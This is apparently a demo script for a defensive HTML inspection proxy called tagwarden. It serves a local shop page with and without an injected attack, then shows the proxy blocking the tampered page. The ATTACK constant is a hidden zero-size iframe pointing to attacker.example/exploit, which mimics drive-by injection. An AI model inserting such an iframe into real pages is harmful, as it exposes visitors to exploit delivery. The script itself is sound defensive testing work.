/**
 * The demo: an origin server whose responses someone tampers with, and tagwarden in front of it.
 *
 *   npm run demo
 *
 * It starts, on 127.0.0.1 only, an "origin" serving a shop page (gzip-compressed, as most origins
 * do) and the same page with an attack <iframe> injected the way the 2008 ARP-spoofing incident
 * injected it; and a front server that relays the origin through a tagwarden inspector in `block`.
 * It fetches both pages through the front and prints what a visitor would get.
 */
import { createServer, request, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { Writable } from 'node:stream'
import { pipeline } from 'node:stream/promises'
import { gzipSync } from 'node:zlib'
import { createInspector, parsePolicy, type Verdict } from '../src/index.js'

const page = (extra: string) => `<!doctype html>
<html><head><meta charset="utf-8"><title>Example shop</title>
<script src="/static/app.js"></script></head>
<body>${extra}<h1>Welcome to the shop</h1><img src="/logo.png" alt="logo"></body></html>`

const ATTACK = '<iframe src="http://attacker.example/exploit" width="0" height="0" frameborder="0"></iframe>'

const policy = parsePolicy({
  action: 'block',
  directives: { 'default-src': ["'self'"], 'frame-src': ["'none'"] },
})

function listen(server: Server): Promise<number> {
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)),
  )
}

async function main(): Promise<void> {
  const origin = createServer((req, res) => {
    const body = gzipSync(page(req.url === '/injected' ? ATTACK : ''))
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'content-encoding': 'gzip' })
    res.end(body)
  })
  const originPort = await listen(origin)

  const verdicts: Verdict[] = []
  const front = createServer((req, res) => {
    const upstream = request({ host: '127.0.0.1', port: originPort, path: req.url, method: req.method })
    upstream.on('response', (up: IncomingMessage) => {
      const inspector = createInspector({ policy, url: `http://shop.example${req.url}`, headers: up.headers })
      inspector.verdict.then((v) => verdicts.push(v))
      // Headers wait for the first released byte, so a page blocked before it can still get a 502.
      const client = new Writable({
        write(chunk: Buffer, _encoding, callback) {
          if (!res.headersSent) res.writeHead(up.statusCode ?? 502, up.headers)
          if (res.write(chunk)) callback()
          else res.once('drain', callback)
        },
      })
      pipeline(up, inspector, client).then(
        () => (res.headersSent ? res : res.writeHead(up.statusCode ?? 502, up.headers)).end(),
        () => {
          if (res.headersSent)
            res.destroy() // cut, never ended cleanly
          else res.writeHead(502, { 'content-type': 'text/html' }).end('<h1>Blocked by tagwarden</h1>')
        },
      )
    })
    upstream.end()
  })
  const frontPort = await listen(front)

  for (const path of ['/', '/injected']) {
    const response = await fetch(`http://127.0.0.1:${frontPort}${path}`)
    const text = await response.text()
    const verdict = verdicts.at(-1)
    console.log(`GET ${path} -> ${response.status} (${text.length} characters)`)
    console.log(`  verdict: ${verdict?.status}`)
    for (const v of verdict?.violations ?? []) {
      console.log(
        `  violation: ${v.directive} <${v.element} ${v.attribute}="${v.value}"> at ${v.line}:${v.column}`,
      )
    }
  }
  origin.close()
  front.close()
}

await main()
